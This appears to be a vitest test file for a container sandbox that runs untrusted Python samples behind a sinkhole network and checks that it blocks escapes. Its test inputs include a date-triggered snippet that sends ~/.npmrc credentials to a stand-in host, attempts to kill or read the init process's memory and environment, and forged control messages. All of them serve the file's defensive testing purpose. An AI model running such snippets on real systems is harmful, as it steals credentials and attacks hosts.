import { readFileSync } from 'node:fs';
import { type AddressInfo, createServer, type Server } from 'node:net';
import { networkInterfaces } from 'node:os';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { check } from '../../examine/examine.ts';
import { DEFAULT_POLICY } from '../../policy/policy.ts';
import type { Backend } from '../backend.ts';
import { CLIENTS, sentIn } from '../clients.fixture.ts';
import { LIMIT_PROFILES } from '../limits.ts';
import type { Run } from '../run.ts';
import { dockerWithImage, NO_DAEMON, sampleOf } from './container.fixture.ts';
import { createContainer } from './container.ts';

const ATTACKS = new URL('../jail/network.attacks.py', import.meta.url);

if (NO_DAEMON !== undefined) console.warn(`the container's network: not tested: ${NO_DAEMON}`);

describe.skipIf(NO_DAEMON !== undefined)('the container whose network is played', { timeout: 120_000 }, () => {
  let docker: Awaited<ReturnType<typeof dockerWithImage>>;
  let container: Backend;
  const heard: string[] = [];
  let decoy: Server;
  beforeAll(async () => {
    docker = await dockerWithImage();
    container = createContainer({ address: docker.address });
    decoy = createServer((socket) => socket.on('error', () => {}).on('data', (data) => heard.push(`${data}`)));
    decoy.on('connection', () => heard.push('connection'));
    await new Promise<void>((resolve) => decoy.listen({ port: 0, host: '::' }, resolve));
  }, 300_000);
  afterAll(async () => {
    decoy?.close();
    await container?.dispose();
    await docker?.stop();
  });

  function run(code: string, more: Parameters<typeof sampleOf>[1] = {}): Promise<Run> {
    const limits = { ...LIMIT_PROFILES.default, cpus: 2 };
    return container.run(sampleOf(code, more), { limits, observe: true, network: { mode: 'sinkhole' } });
  }

  it('answers the clients of Python and Node as the jail’s does, all of them at once', async () => {
    const own = CLIENTS.filter(({ needs }) => needs === undefined);
    const runs = await Promise.all(own.map(({ code, language }) => run(code, { language })));
    for (const [index, client] of own.entries()) {
      expect(runs[index]?.stdout, `${client.name}: ${runs[index]?.stderr}`).toBe(client.prints);
      expect(sentIn(runs[index] as Run), client.name).toEqual(expect.arrayContaining([...client.sends]));
    }
    expect(own.length).toBeGreaterThanOrEqual(7);
  });

  it('carries much in both directions, and what was sent in the last moment', async () => {
    const result = await run(
      `import os, socket, urllib.request
print(urllib.request.urlopen('http://big.example/', b'x' * 5_000_000).status, flush=True)
s = socket.create_connection(('203.0.113.9', 4444)); s.sendall(b'y' * 60000)
os._exit(0)
`,
    );
    expect(result.stdout).toBe('200\n');
    expect(result.conversations?.map(({ sent }) => sent.bytes)).toEqual(expect.arrayContaining([5_000_000, 60_000]));
  });

  it('reaches nothing of the host, forges no caller and has no way to change its network', async () => {
    const hosts = Object.values(networkInterfaces()).flatMap((list) => list ?? []);
    const own = hosts.filter(({ family, internal }) => family === 'IPv4' && !internal).map(({ address }) => address);
    const port = (decoy.address() as AddressInfo).port;
    const sinkhole = /glovebox-sinkhole-\S+/.exec(readFileSync('/proc/net/unix', 'utf8'))?.[0] ?? 'none';
    const args = [`${port}`, '9', '5050', sinkhole, own.join(','), '198.51.100.7', '8080', '0.0.0.0'];
    const result = await run(readFileSync(ATTACKS, 'utf8'), { args });
    expect(result.stdout).toContain('TRIED');
    expect(result.stdout).toContain('transparent PermissionError 1');
    expect(result.stdout).toMatch(/^raw (OSError|PermissionError) /m);
    expect(result.stdout).toContain('route -1'); // EPERM
    expect(heard).toEqual([]);
    expect(result.isolation).toMatchObject({ capabilities: '0', interfaces: ['lo'], uid: 1000 });
    const forged = result.conversations?.find(({ sent }) => sent.text?.includes('GLOVEBOX1'));
    expect(forged).toMatchObject({ protocol: 'tcp', address: '198.51.100.7', port: 8080 });
  });

  it('has a warden that its sample cannot stop, read or speak for', async () => {
    const result = await run(
      `import os, signal, socket, urllib.request
for number in (signal.SIGKILL, signal.SIGSTOP, signal.SIGTERM):
    try: os.kill(1, number)
    except OSError: pass
for path in ('/proc/1/mem', '/proc/1/fd', '/proc/1/environ', '/run/x'):
    try: os.listdir(path) if path.endswith('fd') else open(path, 'rb' if 'proc' in path else 'w'); print('opened', path)
    except OSError: pass
print('{"t":"net","id":1,"data":"R0xPVkVCT1gxIHggdGNwIDEuMS4xLjEgMSA5LjkuOS45IDkgMS4wCg=="}')
print(urllib.request.urlopen('https://a.example/').status)
print([f for f in os.listdir('/run')], open('/run/ca-bundle.pem').read().count('BEGIN'))
`,
    );
    expect(result.stdout).not.toContain('opened');
    expect(result.stdout).toMatch(/\n200\n\['ca-bundle\.pem'\] 1\n$/);
    expect(result.conversations?.map(({ address }) => address)).not.toContain('9.9.9.9');
  });

  it('is examined at depth deep as in the jail: what waits for a date is seen, and a decoy in what it sends', async () => {
    const code = `import datetime, os, urllib.request
if datetime.date.today() >= datetime.date(2031, 3, 1):
    urllib.request.urlopen('http://drop.example/', open(os.path.expanduser('~/.npmrc'), 'rb').read())
`;
    const report = await check(sampleOf(code), {
      backend: container,
      depth: 'deep',
      policy: { ...DEFAULT_POLICY, network: { mode: 'sinkhole' } },
    });
    expect(report.verdict.decision).toBe('block');
    expect(report.findings.map(({ rule }) => rule)).toEqual(
      expect.arrayContaining(['hidden-behaviour', 'canary-leaked']),
    );
    const shown = report.runs.find(({ conversations }) => conversations?.some(({ protocol }) => protocol === 'http'));
    expect(shown).toMatchObject({ backend: 'container', conditions: { clock: expect.stringMatching(/^20[3-9]/) } });
  });
});
